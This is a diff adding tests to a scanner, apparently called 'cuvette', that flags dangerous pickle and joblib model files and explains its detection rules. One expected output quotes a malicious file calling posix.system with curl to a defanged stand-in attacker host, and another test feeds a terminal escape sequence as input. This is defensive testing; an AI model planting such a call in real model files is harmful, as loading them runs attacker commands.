@@ -126,6 +126,30 @@ describe('cuvette scan', () => {
     expect(human).toContain('torch.load(weights_only=True) would refuse it: torch.nn.modules.container.Sequential');
   });
 
+  test('the loader table is in the JSON, and people are told where loaders differ', async () => {
+    const corpus = path.resolve(import.meta.dirname, '../../e2e/corpus/joblib/between_arrays.joblib');
+    const { out } = await cuvette('scan', '--json', corpus, file('attack.joblib'));
+    const document = JSON.parse(out);
+    const validate = new Ajv({ strict: false }).compile(schema());
+    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
+    const results = document.artifacts.map((artifact: { loaders: { program: string; result: string }[] }) =>
+      artifact.loaders.map(({ program, result }) => `${program} ${result}`),
+    );
+    expect(results).toEqual([
+      ['pickleC fails', 'picklePython fails', 'joblib dangerous', 'torch fails', 'torchWeightsOnly refuses'],
+      [
+        'pickleC dangerous',
+        'picklePython dangerous',
+        'joblib dangerous',
+        'torch dangerous',
+        'torchWeightsOnly refuses',
+      ],
+    ]);
+    const { out: human } = await cuvette('scan', '--no-color', corpus);
+    expect(human).toContain("joblib.load: Calls posix.system('curl https[:]//attacker[.]example').");
+    expect((await cuvette('scan', '--no-color', file('attack.joblib'))).out).not.toContain('joblib.load:');
+  });
+
   test('a folder streams as one line a file, in order, links not followed', async () => {
     const { out, code } = await cuvette('scan', '--ndjson', '--recursive', file('many'));
     const lines = out
@@ -280,6 +304,23 @@ describe('cuvette scan', () => {
       const { out } = await cuvette('scan', '--json', file('unknown.pkl'));
       expect(JSON.parse(out)).toMatchObject({ policy: null, summary: { suspicious: 1 } });
     });
+  });
+
+  test('the document explains the rules that hit, once, and a page can be printed', async () => {
+    const { out } = await cuvette('scan', '--json', file('attack.joblib'), file('attack.joblib'), file('unknown.pkl'));
+    const { rules, artifacts } = JSON.parse(out);
+    const hit = artifacts.flatMap(({ findings }: { findings: { ruleId: string }[] }) =>
+      findings.map(({ ruleId }) => ruleId),
+    );
+    expect(Object.keys(rules).sort()).toEqual([...new Set(hit)].sort());
+    expect(rules['dangerous-call']).toMatchObject({ certainty: 'certain', title: 'Calls something dangerous' });
+    const page = await cuvette('explain', 'dangerous-call');
+    expect(page.code).toBe(0);
+    for (const text of [rules['dangerous-call'].title, 'What would happen', 'How sure', 'What to do'])
+      expect(page.out).toContain(text);
+    expect(Math.max(...page.out.split('\n').map((line) => line.length))).toBeLessThanOrEqual(100);
+    expect((await cuvette('explain', 'list')).out).toContain('unknown-global');
+    expect(await cuvette('explain', 'no-such\u001b[2J')).toMatchObject({ code: 64, out: '' });
   });
 
   test('help and version', async () => {
